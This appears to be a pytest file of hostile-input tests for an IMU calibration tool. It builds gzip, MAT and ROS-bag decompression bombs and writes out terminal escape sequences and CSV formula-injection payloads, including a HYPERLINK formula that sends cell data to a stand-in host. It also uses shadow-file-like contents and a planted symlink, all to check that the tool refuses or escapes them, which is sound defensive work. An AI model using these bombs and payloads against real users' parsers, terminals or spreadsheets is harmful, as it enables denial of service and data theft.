"""Hostile inputs, third round (inputs): bounded memory on any input, nothing a file or a name can do to a
terminal, a spreadsheet or the network, no silent wrong numbers.

Memory and time bounds are those of the process (:mod:`hostile_child`): the commands that could exhaust them run
in a child under ``resource`` limits (RLIMIT_AS, RLIMIT_CPU), and their peak resident memory is read from the
child's own ``/proc/self/status``. The memory bound per input byte of each compressed format is
:data:`imucalib.io.expansion.EXPANSION_RATIO` (or :data:`~imucalib.io.expansion.EXPANSION_FLOOR` in all).
"""

from __future__ import annotations

import bz2
import gzip
import json
import os
import struct
import zlib
from pathlib import Path

import numpy as np
import pytest

from hostile_child import in_process, limited, one_line
from imucalib.io import expansion


# ------------------------------------------------------------------ decompression bombs
def gzip_bomb(path: Path, megabytes: int) -> None:
    """A ``.csv.gz`` of a header and ``megabytes`` MiB of ``0,0,0,0,0,0,0`` rows: one compressed MiB repeated
    as gzip members (a reader decompresses them as one stream)."""
    row = b"0,0,0,0,0,0,0\n"
    member = gzip.compress(row * ((1 << 20) // len(row)), 9)
    with path.open("wb") as f:
        f.write(gzip.compress(b"t,ax,ay,az,gx,gy,gz\n"))
        for _ in range(megabytes):
            f.write(member)


def mat_bomb(path: Path, rows: int) -> None:
    """A MATLAB v5 file with one zlib-compressed ``rows`` × 7 matrix of zeros (MAT-file format, Table 1-1)."""
    data = rows * 7 * 8
    name = struct.pack("<HH4s", 1, 1, b"d\0\0\0")  # a small element: miINT8, 1 byte, "d"
    body = (struct.pack("<II", 6, 8) + struct.pack("<II", 6, 0)  # array flags: mxDOUBLE_CLASS
            + struct.pack("<II", 5, 8) + struct.pack("<ii", rows, 7)  # dimensions
            + name + struct.pack("<II", 9, data))  # the real part's tag: miDOUBLE
    element = struct.pack("<II", 14, len(body) + data) + body  # miMATRIX
    c = zlib.compressobj(9)
    parts = [c.compress(element)]
    zeros = b"\0" * (1 << 20)
    left = data
    while left > 0:
        parts.append(c.compress(zeros[:min(left, len(zeros))]))
        left -= len(zeros)
    parts.append(c.flush())
    stream = b"".join(parts)
    header = b"MATLAB 5.0 MAT-file, crafted".ljust(116, b" ") + b"\0" * 8 + struct.pack("<H", 0x0100) + b"IM"
    path.write_bytes(header + struct.pack("<II", 15, len(stream)) + stream)


@pytest.fixture(scope="module")
def bombs(tmp_path_factory):
    d = tmp_path_factory.mktemp("bombs")
    gzip_bomb(d / "bomb.csv.gz", 1200)
    mat_bomb(d / "bomb.mat", 16_000_000)  # 896 MB of doubles
    return d


@pytest.mark.slow
def test_a_gzip_bomb_is_refused_in_bounded_memory(bombs):
    path = bombs / "bomb.csv.gz"
    assert path.stat().st_size < 2_600_000  # 1.2 GB of text
    code, _, err, peak = limited("calibrate", path)
    assert code == 2 and one_line(err), err
    assert "decompression bomb" in err and "gunzip -k" in err, err
    assert peak < 250_000, peak  # refused while its length is measured, before a row is parsed


@pytest.mark.slow
def test_a_mat_zlib_bomb_is_refused_in_bounded_memory(bombs):
    path = bombs / "bomb.mat"
    assert path.stat().st_size < 2_000_000
    code, _, err, peak = limited("calibrate", path, "--reader", "mat")
    assert code == 2 and one_line(err), err
    assert "decompression bomb" in err, err
    assert peak < 250_000, peak  # counted, never kept


def test_a_recording_that_compresses_well_is_read(tmp_path):
    """The budget leaves room for real recordings: a session's CSV gzip-compressed reads as the plain file."""
    from imucalib.io import read, write_csv
    from synth import tedaldi_session

    rec, _, _ = tedaldi_session(seed=3)
    write_csv(tmp_path / "s.csv", rec)
    (tmp_path / "s.csv.gz").write_bytes(gzip.compress((tmp_path / "s.csv").read_bytes(), 9))
    np.testing.assert_array_equal(read(tmp_path / "s.csv.gz").acc, read(tmp_path / "s.csv").acc)


def test_the_gzip_budget_counts_decompressed_bytes(tmp_path, monkeypatch):
    monkeypatch.setattr(expansion, "EXPANSION_FLOOR", 1 << 16)
    path = tmp_path / "b.csv.gz"
    gzip_bomb(path, 2)
    with expansion.open_gzip(path) as f, pytest.raises(Exception, match="decompression bomb"):
        while f.read(4096):
            pass
    with expansion.open_gzip(path) as f, pytest.raises(Exception, match="decompression bomb"):
        f.read()
    with expansion.open_gzip(path) as f, pytest.raises(Exception, match="decompression bomb"):
        f.seek(1 << 21)


# ROS 1 bags: a real bag written by rosbags, its bz2 chunk swapped for streams of zeros
def _ros1_records(blob: bytes):
    """``(start, header fields, data start, data length)`` of each top-level record of a ROS 1 bag."""
    pos = 13
    while pos + 4 <= len(blob):
        (hlen,) = struct.unpack_from("<I", blob, pos)
        header = blob[pos + 4:pos + 4 + hlen]
        (dlen,) = struct.unpack_from("<I", blob, pos + 4 + hlen)
        fields, i = {}, 0
        while i < hlen:
            (n,) = struct.unpack_from("<I", header, i)
            k, _, v = header[i + 4:i + 4 + n].partition(b"=")
            fields[k] = v
            i += 4 + n
        yield pos, fields, pos + 8 + hlen, dlen
        pos += 8 + hlen + dlen


def bag_bomb(path: Path, streams: int, honest: bool) -> None:
    """A ROS 1 bag of one IMU message in a bz2 chunk, then ``streams`` × 64 MiB of zeros compressed into the
    same chunk; the chunk declares its true size when ``honest``, else the size of the message alone."""
    pytest.importorskip("rosbags")
    from rosbags.rosbag1 import Writer
    from rosbags.typesys import Stores, get_typestore

    store = get_typestore(Stores.ROS1_NOETIC)
    Imu = store.types["sensor_msgs/msg/Imu"]
    Header = store.types["std_msgs/msg/Header"]
    Time = store.types["builtin_interfaces/msg/Time"]
    V3 = store.types["geometry_msgs/msg/Vector3"]
    Q = store.types["geometry_msgs/msg/Quaternion"]
    plain = path.with_suffix(".plain.bag")
    w = Writer(plain)
    w.set_compression(Writer.CompressionFormat.BZ2)
    with w:
        conn = w.add_connection("/imu", Imu.__msgtype__, typestore=store)
        for k in range(3):
            msg = Imu(Header(k, Time(1, k * 1000), "imu"), Q(0, 0, 0, 1), np.zeros(9), V3(0, 0, 0), np.zeros(9),
                      V3(0, 0, 9.8), np.zeros(9))
            w.write(conn, 1_000_000_000 + k * 1000, store.serialize_ros1(msg, Imu.__msgtype__))
    blob = bytearray(plain.read_bytes())
    plain.unlink()
    chunk = next(r for r in _ros1_records(bytes(blob)) if r[1].get(b"op") == b"\x05")
    start, fields, data_at, dlen = chunk
    content = bz2.decompress(bytes(blob[data_at:data_at + dlen]))
    zeros = bz2.compress(b"\0" * (64 << 20), 9)
    data = bz2.compress(content, 9) + zeros * streams
    size = len(content) + (64 << 20) * streams if honest else len(content)
    header_at = start + 4
    i = blob.index(b"size=", header_at) + 5
    blob[i:i + 4] = struct.pack("<I", min(size, 0xFFFFFFFF))
    blob[data_at - 4:data_at] = struct.pack("<I", len(data))
    blob[data_at:data_at + dlen] = data
    j = blob.index(b"index_pos=") + 10  # the bag header's pointer to the index, moved by the new chunk length
    (index_pos,) = struct.unpack_from("<Q", blob, j)
    blob[j:j + 8] = struct.pack("<Q", index_pos + len(data) - dlen)
    path.write_bytes(bytes(blob))


@pytest.mark.slow
@pytest.mark.parametrize("honest", [True, False])
def test_a_ros1_bag_with_a_bz2_bomb_chunk_is_refused_in_bounded_memory(tmp_path, honest):
    path = tmp_path / "bomb.bag"
    bag_bomb(path, 40, honest)  # 2.7 GB of zeros behind one message
    assert path.stat().st_size < 50_000
    code, _, err, peak = limited("calibrate", path)
    assert code == 2 and one_line(err), err
    assert ("decompression bomb" if honest else "holds more than the") in err, err
    assert peak < 250_000, peak


# ------------------------------------------------------------------ URL chains
@pytest.fixture
def listener():
    """A local TCP listener that must receive no connection: (port, a function counting the connections)."""
    import socket

    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.setblocking(False)

    def accepted() -> int:
        n = 0
        while True:
            try:
                conn, _ = srv.accept()
            except BlockingIOError:
                return n
            conn.close()
            n += 1

    yield srv.getsockname()[1], accepted
    srv.close()


@pytest.mark.parametrize("allowed, url, refused", [
    ("zip", "zip://rec.csv::ftp://127.0.0.1:{port}/a.zip", "ftp"),
    ("tar", "tar://rec.csv::ftp://127.0.0.1:{port}/a.tar", "ftp"),
    ("zip,simplecache", "zip://rec.csv::simplecache::http://127.0.0.1:{port}/a.zip", "http"),
    ("zip", "zip://rec.csv::/tmp/a.zip", "file"),
])
def test_every_protocol_of_an_fsspec_chain_must_be_allowed(tmp_path, listener, allowed, url, refused):
    from imucalib.batch import ManifestError, read_manifest, run_batch

    port, accepted = listener
    manifest = tmp_path / "m.csv"
    manifest.write_text(f"device,files\nA,{url.format(port=port)}\n", encoding="utf-8")
    with pytest.raises(ManifestError, match=f"the URL scheme {refused} is not among those allowed"):
        read_manifest(manifest, allow_urls=allowed)
    with pytest.raises(ManifestError, match="each must be allowed"):
        run_batch(manifest, tmp_path / "s.sqlite", allow_urls=allowed)
    assert accepted() == 0 and not (tmp_path / "s.sqlite").exists()
    everything = ",".join(["zip", "tar", "ftp", "http", "simplecache", "file"])
    assert read_manifest(manifest, allow_urls=everything)[0].files == (url.format(port=port),)


# ------------------------------------------------------------------ the accelerometer's sign convention
@pytest.fixture(scope="module")
def flat_session():
    """A hand-held session whose initial rest lies flat, face up (+g on z), as users record them."""
    from imucalib.scenarios import session

    s = session("handheld", rng=np.random.default_rng(3))
    return s.recording, s.truth


def _negated(rec, axes=(0, 1, 2)):
    from imucalib.recording import Recording

    acc = rec.acc.copy()
    acc[:, list(axes)] *= -1
    return Recording(rec.t, acc, rec.gyro, acc_unit=rec.acc_unit, gyro_unit=rec.gyro_unit)


def _calibrate_noting(rec):
    import warnings

    from imucalib.methods import calibrate
    from imucalib.recording import ImucalibWarning

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always", ImucalibWarning)
        cal = calibrate(rec)
    return cal, [str(w.message) for w in caught if issubclass(w.category, ImucalibWarning)]


def test_an_accelerometer_reading_minus_g_up_is_named(flat_session):
    rec, truth = flat_session
    _, notes = _calibrate_noting(rec)
    assert not any("reports -g up" in n for n in notes), notes
    cal, notes = _calibrate_noting(_negated(rec))
    said = [n for n in notes if "reports -g up" in n]
    assert len(said) == 1 and "initial rest reads -9.8" in said[0], notes
    # what the note warns of: the calibrated rest is -g on z, the opposite of the truth's
    rest = slice(*cal.fit["intervals"][0])
    np.testing.assert_allclose(cal.accelerometer_si(_negated(rec).acc[rest]).mean(0),
                               -truth.accelerometer_si(rec.acc[rest]).mean(0), atol=0.05)


def test_validate_names_a_calibration_with_negated_accelerometer_scales(flat_session):
    import warnings

    from imucalib.recording import ImucalibWarning
    from imucalib.validation import validate

    rec, truth = flat_session
    flipped = truth.with_parameters({f"accelerometer.scale.{a}": -v for a, v in
                                     zip("xyz", truth.accelerometer.scale, strict=True)})
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always", ImucalibWarning)
        validate(flipped, rec)
    assert any("reports -g up" in str(w.message) for w in caught), [str(w.message) for w in caught]


# ------------------------------------------------------------------ terminal control sequences
#: what a hostile name carries: clear the screen, retitle the window, a one-character CSI, a right-to-left override
CONTROLS = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"
ESCAPED = "\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202e"


def _no_controls(text: str) -> bool:
    return not any(c in text for c in "\x1b\x07\x9b\u202e\r")


@pytest.fixture(scope="module")
def session_files(tmp_path_factory):
    from imucalib.io import write_csv
    from synth import tedaldi_session

    d = tmp_path_factory.mktemp("controls")
    rec, truth, _ = tedaldi_session(seed=12, noise_acc=0.003, noise_gyro=0.002)
    write_csv(d / "s.csv", rec)
    truth.save(d / "c.json")
    return d


def test_an_unknown_fit_key_is_printed_escaped(session_files, tmp_path, capsys):
    d = json.loads((session_files / "c.json").read_text(encoding="utf-8"))
    d.setdefault("fit", {})[f"key{CONTROLS}"] = 1
    path = tmp_path / "c.json"
    path.write_text(json.dumps(d), encoding="utf-8")
    code, out, err, _ = in_process(capsys, "export", path)
    assert code == 0 and _no_controls(out + err) and f"key{ESCAPED}" in err, err


def test_header_names_in_the_missing_columns_error_are_escaped(tmp_path, capsys):
    path = tmp_path / "h.csv"
    path.write_text(f"t,a{CONTROLS},ay,az,gx,gy,gz\n" + "0,1,2,3,4,5,6\n" * 20, encoding="utf-8")
    code, out, err, _ = in_process(capsys, "calibrate", path, "--columns", "t,ax,ay,az,gx,gy,gz")
    assert code == 2 and one_line(err) and _no_controls(out + err) and ESCAPED in err, err


def test_a_file_name_is_printed_escaped(session_files, tmp_path, capsys):
    code, out, err, _ = in_process(capsys, "calibrate", tmp_path / f"no{CONTROLS}.csv")
    assert code == 2 and one_line(err) and _no_controls(out + err) and ESCAPED in err, err


def test_store_list_prints_a_stored_error_escaped(tmp_path, capsys):
    manifest = tmp_path / "m.csv"
    manifest.write_text(f"device,files\nA,{tmp_path}/gone{CONTROLS}.csv\n", encoding="utf-8")
    code, out, err, _ = in_process(capsys, "batch", manifest, "--store", tmp_path / "s.sqlite")
    assert code == 3 and _no_controls(out + err), out + err
    code, out, err, _ = in_process(capsys, "store", "list", "--store", tmp_path / "s.sqlite")
    assert code == 0 and _no_controls(out + err) and "gone\\x1b[2J" in out, out


def test_printable_escapes_every_control_and_keeps_the_rest():
    from hypothesis import given
    from hypothesis import strategies as st

    from imucalib.printable import printable

    @given(st.text())
    def check(text):
        out = printable(text)
        assert not any((ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f
                       or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" for c in out)
        assert printable(out) == out  # an escaped text prints as it is
        if text.isprintable():
            assert out == text

    check()


def test_a_terminal_that_is_not_utf8_gets_the_message_not_an_encoding_error(session_files, tmp_path):
    code, out, err, _ = limited("calibrate", session_files / "s.csv", "-o", tmp_path / "c.json",
                                env={"PYTHONIOENCODING": "ascii"})
    assert code == 0 and "Traceback" not in err and "encod" not in err, err
    assert (tmp_path / "c.json").exists()


# ------------------------------------------------------------------ CSV formula injection
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", " =1+1", "\uff1d1+1"]


def test_store_export_writes_formula_like_text_as_text(tmp_path, capsys):
    import csv

    from imucalib.calibration import Calibration
    from imucalib.store import Store

    with Store(tmp_path / "s.sqlite") as st:
        for k, name in enumerate(FORMULAS):
            cal = Calibration(method="tedaldi2014", fit={"verdict": "accepted", "verdict_reasons": []})
            st.add({"device": name, "recorded_at": None, "temperature_c": -5.0, "method": "tedaldi2014",
                    "status": "ok", "verdict": "accepted", "calibration": cal,
                    "files": [{"path": f"=cmd|{k}.csv", "sha256": f"{k}", "bytes": 1}],
                    "source_sha256": f"sha-{k}", "settings": {"method": "tedaldi2014"}, "error": None})
    code, out, err, _ = in_process(capsys, "store", "export", "--store", tmp_path / "s.sqlite",
                                   "-o", tmp_path / "x.csv")
    assert code == 0, err
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["device"] for r in rows) == sorted("'" + n for n in FORMULAS)
    assert all(r["files"].startswith("'=cmd|") for r in rows)
    assert {r["temperature_c"] for r in rows} == {"-5.0"}  # numbers stay numbers
    assert all(float(r["accelerometer.bias.x"]) == 0.0 for r in rows)


# ------------------------------------------------------------------ batch: check first, hash what is read
def test_batch_refuses_a_huge_sparse_file_before_hashing_it(tmp_path):
    sparse = tmp_path / "sparse.csv"
    with open(sparse, "wb") as f:
        f.truncate(100 << 30)  # 100 GB of zeros, stored sparse: hashing it takes minutes
    manifest = tmp_path / "m.csv"
    manifest.write_text(f"device,files\nA,{sparse}\n", encoding="utf-8")
    code, out, err, _ = limited("batch", manifest, "--store", tmp_path / "s.sqlite", "--json", cpu=20)
    assert code == 3, err  # not killed by RLIMIT_CPU
    error = json.loads(out)["errors"][0]["error"]
    assert "NUL bytes" in error and "sparse" in error, error


SHADOW = "root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nsshd:!:19000::::::\n"


@pytest.mark.parametrize("content", [SHADOW, "root,x,0,0,root,/root,/bin/bash\nbin,x,2,2,bin,/bin,/usr/sbin/nologin\n",
                                     "Secret-Token=ghp_ABCDEFGHIJKLMNOP\n"])
@pytest.mark.parametrize("columns", [None, ("t", "ax", "ay", "q", "gx", "gy", "gz")])
def test_a_row_naming_a_file_that_is_no_recording_stores_nothing_of_it(tmp_path, content, columns):
    from imucalib.batch import Row, run_row

    path = tmp_path / "shadow"
    path.write_text(content, encoding="ascii")
    out = run_row({"row": Row(line=2, device="A", files=(str(path),), columns=columns), "skip": []})
    assert out["status"] == "failed"
    error = out["error"].replace(str(path), "")
    for line in content.splitlines():
        for i in range(len(line) - 3):
            assert line[i:i + 4] not in error, (line[i:i + 4], out["error"])


def test_a_recordings_header_is_still_named_in_its_error(tmp_path, session_files):
    from imucalib.batch import Row, run_row

    out = run_row({"row": Row(line=2, device="A", files=(str(session_files / "s.csv"),),
                              columns=("t", "ax", "ay", "q", "gx", "gy", "gz")), "skip": []})
    assert "no such column" in out["error"] and "ax [counts]" in out["error"], out["error"]


# ------------------------------------------------------------------ the store's dates
@pytest.mark.parametrize("second", ["2024-05-01T00:00", "2024-05-01T00:00:00Z", "2024-05-01T02:00+02:00"])
def test_one_moment_written_two_ways_is_one_record(tmp_path, session_files, second, capsys):
    manifest = tmp_path / "m.csv"
    manifest.write_text(f"device,files,recorded_at\nA,{session_files / 's.csv'},2024-05-01\n", encoding="utf-8")
    code, out, err, _ = in_process(capsys, "batch", manifest, "--store", tmp_path / "s.sqlite", "--json")
    assert code == 0 and json.loads(out)["calibrated"] == 1, err
    manifest.write_text(f"device,files,recorded_at\nA,{session_files / 's.csv'},{second}\n", encoding="utf-8")
    code, out, err, _ = in_process(capsys, "batch", manifest, "--store", tmp_path / "s.sqlite", "--json")
    assert code == 0 and json.loads(out)["skipped"] == 1, out + err
    from imucalib.store import Store, instant_key

    with Store(tmp_path / "s.sqlite", readonly=True) as st:
        assert len(st.records()) == 1
    assert instant_key("2024-05-01T14:30+02:00") == instant_key("2024-05-01T12:30:00") == "2024-05-01T12:30:00"


# ------------------------------------------------------------------ -o and symbolic links in shared folders
@pytest.mark.skipif(os.geteuid() != 0, reason="a symbolic link of another user is made with lchown (root)")
def test_a_symlink_of_another_user_in_a_sticky_world_writable_folder_is_not_followed(tmp_path, session_files, capsys):
    shared = tmp_path / "tmp"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    victim = tmp_path / "precious.json"
    victim.write_text("keep me", encoding="utf-8")
    link = shared / "c.json"
    os.symlink(victim, link)
    os.lchown(link, 4242, 4242)  # planted by another user
    code, out, err, _ = in_process(capsys, "calibrate", session_files / "s.csv", "-o", link)
    assert code == 2 and one_line(err) and "a symbolic link of another user" in err, err
    assert victim.read_text(encoding="utf-8") == "keep me" and link.is_symlink()
    os.lchown(link, os.geteuid(), os.getegid())  # the user's own link is followed, as the shell's > does
    code, out, err, _ = in_process(capsys, "calibrate", session_files / "s.csv", "-o", link)
    assert code == 0 and victim.read_text(encoding="utf-8").startswith("{"), err


# ------------------------------------------------------------------------ old messages, round 3's last
@pytest.mark.parametrize(("query", "says"), [
    ("baud=99999999999999999999", "not one a serial port runs at"),
    ("baud=0", "not one a serial port runs at"),
    ("baud=9600&parity=E", "unknown setting parity"),
    ("bauds=9600", "unknown setting bauds"),
    ("baud=fast", "whole number"),
])
def test_a_serial_spec_out_of_range_or_unknown_is_one_line(query, says):
    pytest.importorskip("serial")
    from imucalib.record.sources import open_source

    with pytest.raises(ValueError, match=says), open_source(f"serial:/dev/nonexistent-port?{query}"):
        pass


def test_lines_ending_in_a_carriage_return_alone_are_named(tmp_path):
    from imucalib.io import ReaderError, read

    text = "\r".join(["t,ax,ay,az,gx,gy,gz"] + [f"{k * 0.01:.2f},0,0,1000,1,2,3" for k in range(300)]) + "\r"
    (tmp_path / "cr.csv").write_bytes(text.encode())
    with pytest.raises(ReaderError, match="carriage return alone"):
        read(str(tmp_path / "cr.csv"))


def test_a_column_named_twice_is_not_silently_the_first(tmp_path):
    from imucalib.io import read
    from imucalib.recording import ImucalibWarning

    text = "\n".join(["t,ax,ay,az,gx,gy,gz,ax"] + [f"{k * 0.01:.2f},0,0,1000,1,2,3,9" for k in range(300)]) + "\n"
    (tmp_path / "dup.csv").write_text(text)
    with pytest.warns(ImucalibWarning, match=r"names 'ax' 2 times \(columns 1, 7, 0-based\): the first is taken"):
        assert np.all(read(str(tmp_path / "dup.csv")).acc[:, 0] == 0)
    rec = read(str(tmp_path / "dup.csv"), columns=["t=0", "ax=7", "ay=2", "az=3", "gx=4", "gy=5", "gz=6"])
    assert np.all(rec.acc[:, 0] == 9)


def test_microsecond_stamps_at_25_hz_declared_as_ms_name_the_unit_that_fixes_them(tmp_path, capsys):
    text = "\n".join(["t,ax,ay,az,gx,gy,gz"] + [f"{k * 40000},0,0,{1000 + k % 3},1,2,3" for k in range(300)]) + "\n"
    (tmp_path / "us.csv").write_text(text)
    code, _, err, _ = in_process(capsys, "calibrate", tmp_path / "us.csv", "--time-unit", "ms")
    last = err.strip().splitlines()[-1]
    assert code == 2 and "Traceback" not in err and "--time-unit us" in last and "25 Hz" in last
